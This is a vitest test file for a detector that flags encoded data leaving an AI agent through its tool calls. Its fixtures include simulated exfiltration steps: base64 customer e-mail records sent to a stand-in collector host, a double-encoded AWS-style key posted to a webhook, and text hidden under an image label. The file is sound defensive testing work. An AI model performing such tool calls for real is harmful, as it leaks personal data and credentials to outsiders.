import { describe, expect, it } from 'vitest';
import { emptyBaseline, updateBaseline } from '../baseline.js';
import { DEFAULT_DETECTION_CONFIG } from '../config.js';
import { detectRun } from '../detect-run.js';
import { makeRun, toolStep } from '../steps.fixtures.js';
import { outboundEncodedBlob } from './outbound-encoded-blob.js';

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
const detect = (steps: ReturnType<typeof toolStep>[], baseline = emptyBaseline()) =>
  detectRun(makeRun(steps), baseline, DEFAULT_DETECTION_CONFIG, { rules: [outboundEncodedBlob] });

// A real 1×1 PNG followed by padding bytes of pixel data.
const PNG = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex'),
  Buffer.alloc(120, 7),
]);

describe('outbound.encoded_blob', () => {
  it('sees a payload that redaction replaced by a blob token: its size went out, medium on an outbound call', () => {
    const token = '[base64:4.1kB sha256:9f2c41aa]';
    const [f] = detect([
      toolStep('send_email', 'external', { to: '[email:11aa22bb@acme.example]', attachment: token }),
    ]);
    expect(f?.severity).toBe('medium');
    expect(f?.reason).toContain('redacted base64 blob of 4100 bytes');
    expect(f?.evidence.slice(f.evidenceStart, f.evidenceEnd)).toBe(token);
    expect(detect([toolStep('save_draft', 'write', { attachment: token })])[0]?.severity).toBe('low');
    expect(detect([toolStep('send_email', 'external', { attachment: '[base64:120B sha256:1a2b3c4d]' })])).toEqual([]);
  });

  it('rates base64 that decodes to customer records with e-mail addresses as high', () => {
    const dump = JSON.stringify([
      { name: 'Ana Diaz', email: 'ana.diaz@example.org' },
      { name: 'Bo Lund', email: 'bo.lund@example.org' },
    ]);
    const [f] = detect([toolStep('http_get', 'read', { url: 'https://collect.example.net/p', data: b64(dump) })]);
    expect(f?.severity).toBe('high');
    expect(f?.details?.decodedKinds).toBe('email');
    // The decoded addresses never reach the evidence; only the encoded text does.
    expect(f?.evidence).not.toContain('ana.diaz');
    expect(f?.evidence.slice(f.evidenceStart, f.evidenceEnd)).toBe(b64(dump).slice(0, 200));
  });

  it('rates an encoded key as critical, also through two layers of encoding', () => {
    const inner = Buffer.from('aws AKIAZ7Q3VXW2RTYU4PLM secret follows').toString('hex');
    const [f] = detect([toolStep('webhook_post', 'external', { blob: b64(inner) })]);
    expect(f?.severity).toBe('critical');
  });

  it('reports hex that decodes to text and %-encoded e-mail addresses', () => {
    const hex = Buffer.from('Quarterly revenue numbers for the board, draft two').toString('hex');
    const pct = encodeURIComponent('list: ana.diaz@example.org, bo.lund@example.org, cy@example.org');
    const found = detect([toolStep('notes', 'write', { h: hex }), toolStep('fetch', 'read', { q: pct })]);
    expect(found.map((f) => [f.details?.encoding, f.severity])).toEqual([
      ['percent', 'high'],
      ['hex', 'medium'],
    ]);
  });

  it('does not flag a base64 image sent on purpose, nor hashes, UUIDs and long URL paths', () => {
    const steps = [
      toolStep('post_image', 'external', { image: `data:image/png;base64,${b64(PNG)}`, caption: 'Chart' }),
      toolStep('git_tag', 'write', {
        sha: 'd6cd1e2bd19e03a81132a23b2025920577f84e37',
        digest: 'a'.repeat(8) + 'f'.repeat(56),
      }),
      toolStep('get', 'read', {
        id: '3f2b8c1e-9a4d-4e6f-8b2a-1c3d5e7f9a0b',
        url: 'https://api.example.com/v1/customers/12345/orders/67890/items/abc',
      }),
    ];
    expect(detect(steps)).toEqual([]);
  });

  it('treats a base64 SVG as an image, not as text under an image label', () => {
    const svg = b64(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
    );
    expect(detect([toolStep('post_image', 'external', { image: `data:image/svg+xml;base64,${svg}` })])).toEqual([]);
  });

  it('flags text smuggled under an image label', () => {
    const [f] = detect([
      toolStep('post_image', 'external', {
        image: `data:image/png;base64,${b64('my notes say the launch moves to May')}`,
      }),
    ]);
    expect(f?.severity).toBe('high');
    expect(f?.reason).toContain('claims to be an image');
  });

  it('learns tools that send images and paths that carry encoded text', () => {
    const readme = b64('# Project\n\nHow to build and run the service locally.');
    let baseline = emptyBaseline();
    for (let i = 0; i < 25; i++) {
      baseline = updateBaseline(
        baseline,
        makeRun([toolStep('repo_put_file', 'write', { path: 'README.md', content: readme })]),
      );
    }
    expect(detect([toolStep('repo_put_file', 'write', { path: 'README.md', content: readme })], baseline)).toEqual([]);
    const image = toolStep('repo_put_file', 'write', { path: 'logo.png', content: b64(PNG) });
    expect(detect([image], baseline).map((f) => f.severity)).toEqual(['low']);
    expect(detect([toolStep('other_tool', 'write', { content: readme })], baseline).map((f) => f.severity)).toEqual([
      'medium',
    ]);
  });

  it('flags a long high-entropy string as a possible unredacted secret', () => {
    const [f] = detect([toolStep('deploy', 'external', { token: 'q8Zr4LmX2vT9sKe1WbYp7NcJ3hUd6GfA0tRw' })]);
    expect(f?.severity).toBe('low');
    expect(f?.reason).toContain('high-entropy');
  });
});
